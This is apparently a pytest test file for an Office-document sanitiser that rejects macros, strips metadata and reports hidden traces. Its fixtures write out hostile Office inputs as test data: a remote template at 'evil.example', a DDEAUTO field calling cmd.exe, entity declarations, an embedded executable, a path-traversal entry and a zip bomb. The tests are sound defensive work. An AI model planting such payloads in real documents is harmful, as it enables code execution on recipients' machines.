"""Word, Excel, PowerPoint: macros and what fetches code are refused, properties emptied, traces reported."""

import io
import zipfile

import pytest
from docx import Document

from gongkai.paperwork.cleaning import examine
from gongkai.paperwork.errors import HostileFile
from tests.paperwork.cleaning.made import ALL, changed, docx, part_of, photo, replaced, xlsx, zipped

BODY, RELS = "word/document.xml", "word/_rels/document.xml.rels"
REMOTE = (
    b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def in_body(mark_up: bytes) -> bytes:
    return replaced(docx(), BODY, b"<w:body>", b"<w:body>" + mark_up)


def related(kind: bytes) -> bytes:
    return replaced(docx(), RELS, b"</Relationships>", REMOTE % kind)


HOSTILE = {
    "macros": changed(docx(), {"word/vbaProject.bin": b"x"}),
    "macros by another name's case": changed(docx(), {"word/VBAPROJECT.BIN": b"x"}),
    "a macro type": replaced(docx(), "[Content_Types].xml", b"</Types>", b'<Default Extension="q" ContentType="x.macroEnabled.y"/></Types>'),
    "a control": changed(docx(), {"word/activeX/activeX1.xml": b"<x/>"}),
    "a macro sheet": changed(xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "a remote template": related(b"attachedTemplate"),
    "a remote object": related(b"oleObject"),
    "a field that calls programs": in_body(b"<w:p><w:r><w:instrText> DDEAUTO c:\\cmd.exe </w:instrText></w:r></w:p>"),
    "entities": changed(docx(), {"word/extra.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
    "entities in UTF-16": changed(docx(), {"word/extra.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}),
    "a program": changed(docx(), {"word/embeddings/a.bin": b"MZ" + bytes(9)}),
    "a packed object": changed(docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + "\x01Ole10Native".encode("utf-16-le")}),
    "macros inside an inner file": changed(docx(), {"word/embeddings/a.xlsx": zipped({"xl/vbaProject.bin": b"x"})}),
    "a way out of the package": changed(docx(), {"../../x.xml": b"<x/>"}),
    "a bomb": changed(docx(), {"word/media/x.bin": bytes(30 * 2**20)}),
}  # fmt: skip


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE)
def test_what_could_act_is_refused(data):
    with pytest.raises(HostileFile):
        examine(data, "年报.docx", ALL)


def test_the_copy_names_nobody_and_says_the_same():
    copy = examine(docx("公开内容"), "年报.docx", ALL).public
    document = Document(io.BytesIO(copy))
    assert (document.core_properties.author, document.core_properties.title) == ("", "")
    assert [paragraph.text for paragraph in document.paragraphs] == ["公开内容"]
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        assert "王经办".encode() not in b"".join(archive.read(name) for name in archive.namelist())


def test_the_preview_of_an_older_state_goes():
    with zipfile.ZipFile(io.BytesIO(docx())) as given:
        assert "docProps/thumbnail.jpeg" in given.namelist()
    with zipfile.ZipFile(io.BytesIO(examine(docx(), "年报.docx", ALL).public)) as archive:
        assert "docProps/thumbnail.jpeg" not in archive.namelist()
        assert b"thumbnail" not in archive.read("_rels/.rels")


def test_a_workbook_stays_one():
    import openpyxl

    copy = examine(xlsx(), "表.xlsx", ALL).public
    book = openpyxl.load_workbook(io.BytesIO(copy))
    assert book.active["A1"].value == 25
    assert book.properties.creator in {None, "openpyxl"}


def test_the_same_file_gives_the_same_copy():
    given = docx()
    assert examine(given, "a.docx", ALL).public == examine(given, "b.docx", ALL).public


def test_cameras_and_places_are_cut_out_of_pictures_inside():
    copy = examine(changed(docx(), {"word/media/image1.jpg": photo()}), "a.docx", ALL).public
    picture = part_of(copy, "word/media/image1.jpg")
    assert b"SECRET" not in picture
    assert picture.startswith(b"\xff\xd8\xff")


def test_authors_of_revisions_are_blanked():
    given = in_body(b'<w:ins w:id="1" w:author="WANG" w:date="2026-01-01T00:00:00Z"/>')
    examined = examine(given, "a.docx", ALL)
    assert b"WANG" not in part_of(examined.public, BODY)
    assert any("修订痕迹" in said for said in examined.warnings)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (in_body(b"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>"), "隐藏文字"),
        (changed(docx(), {"word/comments.xml": b"<x/>"}), "批注"),
        (changed(docx(), {"word/embeddings/Sheet.xlsx": xlsx()}), "内嵌有其他文件"),
        (xlsx(hidden=True), "隐藏的工作表"),
    ],
)
def test_traces_are_reported(data, said):
    assert any(said in warning for warning in examine(data, "a.docx", ALL).warnings)


def test_a_plain_file_gives_no_warning():
    assert examine(docx(), "a.docx", ALL).warnings == ()
